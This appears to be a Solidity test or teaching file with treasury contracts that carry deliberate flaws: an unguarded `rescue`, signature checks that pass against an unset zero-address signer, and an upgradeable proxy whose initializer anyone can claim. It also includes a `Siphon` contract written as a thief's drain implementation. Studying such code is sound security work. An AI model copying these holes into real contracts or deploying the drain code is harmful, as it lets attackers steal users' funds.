// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/access/Ownable.sol";
import "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// Pays a token, or native value where the token is the zero address.
abstract contract Purse {
    using SafeERC20 for IERC20;

    event Paid(address indexed token, address indexed to, uint256 amount);

    function _pay(address token, address to, uint256 amount) internal {
        if (token == address(0)) {
            (bool sent, ) = to.call{value: amount}("");
            require(sent, "not paid");
        } else {
            IERC20(token).safeTransfer(to, amount);
        }
        emit Paid(token, to, amount);
    }

    /// `percent` of all it holds of each.
    function _payShares(address[] calldata tokens, address to, uint256 percent) internal {
        for (uint256 i = 0; i < tokens.length; i++) {
            address token = tokens[i];
            uint256 held = token == address(0) ? address(this).balance : IERC20(token).balanceOf(address(this));
            if (held > 0) _pay(token, to, (held * percent) / 100);
        }
    }

    receive() external payable {}
}

/// One owner's treasury. With `open`, `rescue` has been left without its guard.
contract Treasury is Purse, Ownable {
    bool private immutable _open;

    constructor(bool open) {
        _open = open;
    }

    function pay(address token, address to, uint256 amount) external onlyOwner {
        _pay(token, to, amount);
    }

    function rescue(address[] calldata tokens, address to, uint256 percent) external {
        require(_open || msg.sender == owner(), "not the owner");
        _payShares(tokens, to, percent);
    }
}

/// Pays whoever shows the signer's signature. Where no signer was ever set, any broken signature will do: ecrecover
/// answers it with the zero address.
contract SignedTreasury is Purse {
    address public signer;
    address private immutable _deployer = msg.sender;
    mapping(bytes32 => bool) public used;

    function setSigner(address signer_) external {
        require(msg.sender == _deployer, "not the deployer");
        signer = signer_;
    }

    function claim(address token, address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(address(this), token, to, amount, used[keccak256(abi.encode(r, s))]));
        require(ecrecover(digest, v, r, s) == signer, "wrong signature");
        used[keccak256(abi.encode(r, s))] = true;
        _pay(token, to, amount);
    }
}

/// A treasury behind a proxy (UUPS): the owner can exchange its code.
contract UpgradeableTreasury is Purse, Initializable, UUPSUpgradeable {
    address public owner;

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    function initialize(address owner_) external initializer {
        owner = owner_;
    }

    function pay(address token, address to, uint256 amount) external onlyOwner {
        _pay(token, to, amount);
    }

    function _authorizeUpgrade(address) internal override onlyOwner {}
}

/// Its second edition, which also keeps a limit for a day's payments.
contract LimitedTreasury is UpgradeableTreasury {
    uint256 public limit;

    function setLimit(uint256 limit_) external onlyOwner {
        limit = limit_;
    }
}

/// The code that a thief puts behind somebody's proxy.
contract Siphon is Purse, UUPSUpgradeable {
    address private immutable _thief = msg.sender;

    function empty(address[] calldata tokens, address to, uint256 percent) external {
        require(msg.sender == _thief, "not for you");
        _payShares(tokens, to, percent);
    }

    function _authorizeUpgrade(address) internal view override {
        require(msg.sender == _thief, "not for you");
    }
}
